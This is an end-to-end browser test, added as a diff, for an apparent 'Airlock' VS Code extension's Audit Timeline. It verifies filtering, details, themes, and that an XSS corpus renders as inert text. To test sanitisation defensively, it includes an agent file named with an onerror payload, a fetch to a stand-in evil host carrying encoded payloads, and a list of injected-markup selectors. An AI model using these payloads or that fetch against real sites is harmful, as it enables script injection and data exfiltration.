@@ -1,0 +1,293 @@
+// The Audit Timeline in a real browser against a real VS Code (code-server): opened from the command palette,
+// filled live by real agent runs (the real sandbox, guard pipeline and audit log, writing into the extension's
+// own state folder), filtered, inspected, themed, and fed an XSS corpus that must stay inert text.
+import * as assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Frame, Page, Request } from 'playwright-core';
+import { AuditLog } from '../../src/core/audit/auditLog';
+import { Redactor } from '../../src/core/audit/redaction';
+import { secretScannerFrom } from '../../src/core/guard/secretScanner';
+import { AgentRuntime } from '../../src/core/runtime/agentRuntime';
+import type { ApprovalGate } from '../../src/core/runtime/approvalGate';
+import type { AuditEvent } from '../../src/protocol/auditEvent';
+import { detailsOf, rowOf } from '../../src/vscode/timeline/timelineRows';
+import { shown } from '../../media/src/timeline/dom';
+import { shortRun } from '../../media/src/timeline/eventList';
+import { evilHost, xssCorpus } from '../fixtures/timeline/xssCorpus';
+import { artifactsDir, repoRoot } from '../harness/harnessPaths';
+import { col, detailsText, extensionStateDir, shownRows, timelineFrame, waitForRows } from './timelineView';
+import { useWorkbench } from './workbenchSession';
+
+const approveAll: ApprovalGate = { ask: async () => ({ approved: true, actor: 'human:e2e' }) };
+
+describe('Audit Timeline in the browser', function () {
+  this.timeout(240_000);
+  const session = useWorkbench({ viewport: { width: 1700, height: 1000 } });
+  let runtime: AgentRuntime;
+  let audit: AuditLog;
+  let frame: Frame;
+  let refactorRun: string;
+  const scratch = mkdtempSync(join(tmpdir(), 'airlock-timeline-e2e-'));
+
+  before(() => {
+    runtime = new AgentRuntime({ sandboxDir: join(repoRoot, 'sandbox') });
+  });
+
+  after(async () => {
+    runtime?.dispose();
+    await audit?.close();
+    rmSync(scratch, { recursive: true, force: true });
+  });
+
+  it('opens from the command palette and shows a finished run’s events as they are written', async () => {
+    const wb = session.workbench;
+    await wb.runCommand('Airlock: Open Audit Timeline');
+    await wb.waitForActiveTab('Audit Timeline');
+    frame = await timelineFrame(wb.page);
+
+    // The extension keeps its audit log in its own storage; a real agent run writes into it from here (the
+    // timeline is a reader and picks the events up as they are made durable).
+    audit = await AuditLog.open(await extensionStateDir(session.server));
+    const run = await runtime.start({
+      workspace: session.workspace,
+      agentFile: join(repoRoot, 'examples', 'agents', 'refactor.agent.js'),
+      task: 'rename formatPrice to formatMoney',
+      gate: approveAll,
+      audit,
+      scanner: secretScannerFrom(new Redactor()),
+    });
+    const report = await run.done;
+    assert.equal(report.status, 'completed', report.reason);
+    refactorRun = report.runId;
+
+    const rows = await waitForRows(frame, (r) => r.some((x) => x.cells[col.type] === 'run.end'), 'the run.end row');
+    const types = rows.map((r) => r.cells[col.type]);
+    assert.equal(types[0], 'run.start');
+    assert.ok(types.includes('tool.call'));
+    assert.ok(rows.some((r) => r.cells[col.tool] === 'fs.delete' && r.cells[col.decision] === 'approved'), 'the approved delete is shown');
+    assert.ok(rows.every((r) => r.cells[col.run] === shortRun(refactorRun) && r.cells[col.agent] === 'refactor'));
+    // The run is a group with its status and counts.
+    const group = await frame.evaluate(() => document.querySelector('#app .list .group')?.textContent ?? '');
+    assert.match(group, /completed/);
+    assert.match(group, new RegExp(`${rows.length} events`));
+    // The workbench starts in its light default; the first screenshots are of the dark theme.
+    await pickColorTheme(wb.page, 'Dark Modern');
+    await frame.waitForFunction(() => document.body.classList.contains('vscode-dark'), undefined, { timeout: 15_000 });
+    await wb.screenshot('timeline-01-dark-run');
+  });
+
+  it('narrows the rows with a filter', async () => {
+    const before = await shownRows(frame);
+    const select = frame.locator('vscode-single-select[data-filter="tool"]');
+    await select.click();
+    await frame.locator('vscode-single-select[data-filter="tool"] li[role="option"]', { hasText: 'fs.write' }).click();
+    const rows = await waitForRows(frame, (r) => r.length > 0 && r.every((x) => x.cells[col.tool] === 'fs.write'), 'only fs.write rows');
+    assert.ok(rows.length < before.length, `${rows.length} rows after the filter, ${before.length} before`);
+    assert.equal(rows.length, before.filter((r) => r.cells[col.tool] === 'fs.write').length);
+    await session.workbench.screenshot('timeline-02-dark-filtered');
+  });
+
+  it('shows the selected event in the details pane: fields and the redacted arguments as JSON', async () => {
+    const rows = await shownRows(frame);
+    const target = rows.find((r) => r.cells[col.summary]!.startsWith('src/format.js'))!;
+    assert.ok(target, 'a write of src/format.js is listed');
+    await frame.locator(`#app .list .row[data-seq="${target.seq}"]`).click();
+    await frame.locator('#app .details pre.json').first().waitFor();
+    const text = await detailsText(frame);
+    const stored = (await audit.get(target.seq))!;
+    assert.match(text, /Arguments/);
+    assert.ok(text.includes(shown(detailsOf(stored).argsJson!)), 'the arguments are the stored (redacted) JSON, formatted');
+    assert.match(text, /"path": "src\/format\.js"/);
+    assert.ok(text.includes(stored.hash), 'the hash is shown');
+    assert.ok(stored.rule && text.includes(stored.rule), 'the rule that decided is shown');
+    await session.workbench.screenshot('timeline-03-dark-details');
+  });
+
+  it('verifies the chain from its button', async () => {
+    await frame.locator('vscode-button[data-id="verify"]').click();
+    await frame.locator('.verify-result.verify-ok').waitFor({ timeout: 30_000 });
+    assert.match((await frame.locator('.verify-result').textContent()) ?? '', /Chain intact/);
+  });
+
+  it('follows the light and high-contrast themes', async () => {
+    const wb = session.workbench;
+    for (const [theme, name] of [
+      ['Light Modern', 'timeline-04-light-details'],
+      ['Dark High Contrast', 'timeline-05-high-contrast'],
+    ] as const) {
+      await pickColorTheme(wb.page, theme);
+      await wb.page.waitForTimeout(1000); // the webview receives the new theme variables
+      const bg = await frame.evaluate(() => getComputedStyle(document.body).backgroundColor);
+      const light = await frame.evaluate(() => document.body.classList.contains('vscode-light'));
+      assert.equal(light, theme.startsWith('Light'), `body classes: ${await frame.evaluate(() => document.body.className)}; background ${bg}`);
+      await wb.screenshot(name);
+    }
+    assert.equal(await frame.evaluate(() => document.body.classList.contains('vscode-high-contrast')), true);
+    await pickColorTheme(wb.page, 'Dark Modern');
+  });
+
+  it('shows an XSS corpus placed by an agent as inert, literal text: no script runs, no request leaves', async () => {
+    const wb = session.workbench;
+    const page = wb.page;
+    const fired: unknown[] = [];
+    const requests: string[] = [];
+    const consoleLines: string[] = [];
+    await page.exposeFunction('airlockXss', (n: unknown) => void fired.push(n));
+    const onRequest = (r: Request) => void requests.push(r.url());
+    page.on('request', onRequest);
+    page.on('console', (m) => void consoleLines.push(m.text()));
+    assert.equal(await frame.evaluate(() => typeof (window as unknown as { airlockXss?: unknown }).airlockXss), 'function', 'the tripwire is reachable from the webview');
+
+    // 1. A real agent, through ctx: payloads as its own file name, as file names, URLs, reasons, logs, its result.
+    const ws = join(scratch, 'ws');
+    mkdirSync(join(ws, 'notes'), { recursive: true });
+    const policyFile = join(scratch, 'policy.json');
+    writeFileSync(
+      policyFile,
+      JSON.stringify({
+        version: 1,
+        defaults: {
+          scope: { read: ['**'], write: ['notes/**'], net: [], tools: ['fs.*', 'net.fetch'] },
+          approval: { '*': 'auto' },
+          limits: { rate: { '*': '100000/min' }, maxCalls: 10_000, timeoutMs: 60_000 },
+          breaker: { failures: 10_000, windowMs: 1000 },
+        },
+      }),
+    );
+    const agentDir = join(scratch, 'agents');
+    mkdirSync(agentDir, { recursive: true });
+    const agentFile = join(agentDir, `<img src=x onerror=airlockXss(0)>.agent.js`);
+    writeFileSync(
+      agentFile,
+      `export default async function agent(ctx) {
+        const payloads = JSON.parse(ctx.task);
+        for (const p of payloads) {
+          ctx.reason(p);
+          try { await ctx.fs.read(p); } catch {}
+          ctx.reason(p);
+          try { await ctx.fs.write('notes/' + p.slice(0, 60).replace(/[\\/\\\\]/g, '_') + '.txt', p); } catch {}
+          try { await ctx.net.fetch('http://${evilHost}/' + encodeURIComponent(p.slice(0, 60))); } catch {}
+          ctx.log(p);
+        }
+        return { summary: payloads.slice(0, 12) };
+      }`,
+    );
+    const hostile = await runtime.start({ workspace: ws, agentFile, policyFile, task: JSON.stringify(xssCorpus), gate: approveAll, audit, scanner: secretScannerFrom(new Redactor()) });
+    const hostileReport = await hostile.done;
+    assert.equal(hostileReport.status, 'completed', hostileReport.reason);
+
+    // 2. Straight into the log: payloads where only a writer could put them (tool, actor, rule, result keys).
+    const appended: AuditEvent[] = [];
+    for (const [i, p] of xssCorpus.entries()) {
+      appended.push(
+        await audit.append({
+          runId: 'xss-direct',
+          agent: p.slice(0, 200),
+          type: i % 2 ? 'tool.call' : 'approval',
+          tool: `custom.${i}${p.slice(0, 40)}`,
+          args: { path: p, [p.slice(0, 80)]: [p] },
+          result: { content: p, nested: { html: p } },
+          decision: 'allow',
+          level: 'review',
+          rule: p.slice(0, 300),
+          actor: `human:${p.slice(0, 100)}`,
+          reason: p,
+          durationMs: i,
+        }),
+      );
+    }
+
+    // What the timeline must show is what the log stored (redacted, keys in canonical order).
+    const direct = await Promise.all(appended.map(async (e) => (await audit.get(e.seq))!));
+
+    // Both runs show up live; look at the direct one, then at the agent's.
+    await frame.locator('vscode-button[data-id="clear"]').click();
+    await waitForRows(frame, (r) => r.some((x) => x.seq === direct.at(-1)!.seq), 'the last hostile event');
+    await frame.locator('#app .runs .run-item[data-run="xss-direct"]').click();
+    const onScreen = await waitForRows(frame, (r) => r.length > 0 && r.every((x) => x.cells[col.run] === 'xss-direct'), 'only the xss-direct run');
+    await wb.screenshot('timeline-06-xss-rows');
+    // Every hostile row, top to bottom (the list only keeps what is near the screen in the DOM).
+    const rows = new Map(onScreen.map((r) => [r.seq, r]));
+    await frame.evaluate(() => {
+      const l = document.querySelector('#app .list')!;
+      l.scrollTop = l.scrollHeight;
+    });
+    await frame.waitForTimeout(300);
+    for (const r of await shownRows(frame)) rows.set(r.seq, r);
+    assert.deepEqual([...rows.keys()].sort((a, b) => a - b), direct.map((e) => e.seq), 'every hostile event is listed');
+    for (const r of rows.values()) {
+      const e = direct.find((d) => d.seq === r.seq)!;
+      const expected = rowOf(e);
+      assert.equal(r.cells[col.run], 'xss-direct');
+      assert.equal(r.cells[col.summary], shown(expected.summary ?? ''), `row #${r.seq}: the subject is shown literally`);
+      assert.equal(r.cells[col.agent], shown(e.agent), `row #${r.seq}: the agent is shown literally`);
+      assert.equal(r.cells[col.actor], shown(e.actor ?? ''), `row #${r.seq}: the actor is shown literally`);
+      assert.equal(r.cells[col.tool], shown(e.tool ?? ''), `row #${r.seq}: the tool is shown literally`);
+    }
+    // Details of a few, found with the search box: script tags, javascript: links, a 100,000-character string,
+    // a right-to-left override.
+    const search = frame.locator('vscode-textfield.search input');
+    for (const [needle, e] of [
+      ['airlockXss(2)', direct[1]!],
+      ['airlockXss(4)', direct[3]!],
+      ['airlockXss(13)', direct[12]!],
+      ['invoice', direct[10]!],
+    ] as const) {
+      await search.fill(needle);
+      await waitForRows(frame, (r) => r.length === 1 && r[0]!.seq === e.seq, `the search for ${needle}`);
+      await frame.locator(`#app .list .row[data-seq="${e.seq}"]`).click();
+      await waitForDetails(frame, e.seq);
+      const text = await detailsText(frame);
+      const d = detailsOf(e);
+      assert.ok(text.includes(shown(d.argsJson!)), `#${e.seq}: the arguments JSON is shown literally`);
+      assert.ok(text.includes(shown(d.resultJson!)), `#${e.seq}: the result JSON is shown literally`);
+      assert.ok(text.includes(shown(d.reason!)), `#${e.seq}: the reason is shown literally`);
+      if (needle === 'invoice') await wb.screenshot('timeline-07-xss-details-rlo');
+      if (needle === 'airlockXss(2)') await frame.locator('#app .details').screenshot({ path: join(artifactsDir, 'timeline-09-xss-details-pane.png') });
+    }
+    await frame.locator('vscode-button[data-id="clear"]').click();
+    await waitForRows(frame, (r) => r.length > 20, 'every run again');
+
+    await frame.locator(`#app .runs .run-item[data-run="${hostileReport.runId}"]`).click();
+    const agentRows = await waitForRows(frame, (r) => r.length > 0 && r.every((x) => x.cells[col.run] === shortRun(hostileReport.runId)), 'the hostile agent’s run');
+    assert.ok(agentRows.some((r) => r.cells[col.agent] === '<img src=x onerror=airlockXss(0)>'), 'the agent’s hostile file name is its name, as text');
+    assert.ok(agentRows.some((r) => r.cells[col.tool] === 'net.fetch' && r.cells[col.decision] === 'deny'), 'the fetch to the evil host was denied');
+    await wb.screenshot('timeline-08-xss-agent-run');
+
+    // Nothing ran, nothing was injected, nothing was fetched.
+    await page.waitForTimeout(1000);
+    assert.deepEqual(fired, [], 'a payload ran as script');
+    for (const f of page.frames()) {
+      const flag = await f.evaluate(() => (window as unknown as { __xss?: unknown }).__xss).catch(() => undefined);
+      assert.equal(flag, undefined, `a payload ran in ${f.url()}`);
+    }
+    const injected = await frame.evaluate(() => document.querySelectorAll('#app img, #app script, #app iframe, #app svg, #app a, #app style, #app link, #app meta, #app object, #app embed, #app math, #app details, #app [onerror], #app [onclick], #app [onload]').length);
+    assert.equal(injected, 0, 'markup from a payload reached the page');
+    const origin = session.server.origin;
+    const outside = requests.filter((u) => !u.startsWith(origin) && !/^(data|blob|vscode-webview|vscode-file):/.test(u));
+    assert.deepEqual(outside, [], 'requests left the workbench');
+    assert.ok(!requests.some((u) => u.includes(evilHost)), 'a payload URL was requested');
+    const violations = consoleLines.filter((l) => /Content.Security.Policy|Refused to/i.test(l));
+    assert.deepEqual(violations, [], 'the CSP had to block something the page tried');
+    page.off('request', onRequest);
+  });
+});
+
+/** Preferences: Color Theme, then the theme (the palette ranks "Browse Color Themes" first, so click by name). */
+async function pickColorTheme(page: Page, theme: string): Promise<void> {
+  const quick = page.locator('.quick-input-widget');
+  if (await quick.isVisible()) await page.keyboard.press('Escape');
+  await page.keyboard.press('F1');
+  await quick.locator('input').fill('>Preferences: Color Theme');
+  await quick.locator('.monaco-list-row', { hasText: /^Preferences: Color Theme/ }).first().click();
+  // The theme list is virtualised: filter it down to the one theme, then pick it.
+  await quick.locator('.monaco-list-row', { hasText: /Light|Dark/ }).first().waitFor({ timeout: 60_000 });
+  await quick.locator('input').fill(theme);
+  await quick.locator('.monaco-list-row', { hasText: new RegExp(`^${theme}`) }).first().click();
+}
+
+async function waitForDetails(frame: Frame, seq: number): Promise<void> {
+  await frame.waitForFunction((s) => document.querySelector('#app .details-title')?.textContent?.includes(`#${s}`) ?? false, seq, { timeout: 15_000 });
+}
